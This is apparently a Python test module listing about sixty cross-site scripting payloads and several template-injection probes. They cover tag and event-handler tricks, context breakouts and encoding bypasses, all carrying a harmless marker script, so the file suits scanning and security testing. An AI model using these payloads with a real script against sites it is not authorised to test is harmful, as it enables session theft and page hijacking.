"""What is typed to run in somebody else's page: sixty ways that browsers and templates have fallen for."""

T = "window.__x=1"
SUM, SEVEN = "50337", "7*7191"
"""What a template would make of the sum, which no page of ours says otherwise."""

TAGS = (
    *("<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script/x>{}</script>", "<<script>{}//<</script>"),
    *("<img src=x onerror={}>", "<image src=x onerror={}>", '<img src=x onerror="{}"', "<img/src=x/onerror={}>"),
    *("<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>"),
    *("<svg><animate onbegin={} attributeName=x dur=1s>", "<math><mtext><img src=x onerror={}></mtext></math>"),
    *("<body onload={}>", "<details open ontoggle={}>", "<marquee onstart={}>", "<style onload={}></style>"),
    *("<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>"),
    *("<video><source onerror={}></video>", "<audio src=x onerror={}>", "<link rel=stylesheet href=x onerror={}>"),
    *('<iframe srcdoc="<script>parent.{}</script>">', "<iframe src=javascript:parent.{}>", "<embed src=javascript:{}>"),
    *("<object data=javascript:{}></object>", "<a href=javascript:{} autofocus onfocus={}>x</a>"),
    *("<form><button formaction=javascript:{}>x</button></form>", "<base href=javascript:{}//>"),
    *('<meta http-equiv=refresh content="0;url=javascript:{}">', "<template><img src=x onerror={}></template>"),
)
OUT_OF = (
    *('"><script>{}</script>', "'><script>{}</script>", '" autofocus onfocus={} x="', "' autofocus onfocus={} x='"),
    *("</title><script>{}</script>", "</textarea><script>{}</script>", "</style><script>{}</script>"),
    *("</script><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>", "`-{}-`", "'-{}-'", '";{}//'),
    *('<noscript><p title="</noscript><img src=x onerror={}>">', '<xmp><p title="</xmp><img src=x onerror={}>">'),
)
ELSEHOW = (
    *("javascript:{}", "data:text/html,<script>{}</script>", "&#60;script&#62;{}&#60;/script&#62;"),
    *("&lt;img src=x onerror={}&gt;", "%3Cscript%3E{}%3C/script%3E", "\\u003cscript\\u003e{}\\u003c/script\\u003e"),
    *(
        "\u202e<script>{}</script>\u2066",
        "<scr\x01ipt>{}</scr\x01ipt>",
        "\r\n<script>{}</script>",
        "＜script＞{}＜/script＞",
    ),
)
SUMS = ("{{%s}}", "${%s}", "#{%s}", "<%%= %s %%>", "{%% print(%s) %%}", "{{{%s}}}")

PAYLOADS = (*(one.replace("{}", T) for one in (*TAGS, *OUT_OF, *ELSEHOW)), *(one % SEVEN for one in SUMS))
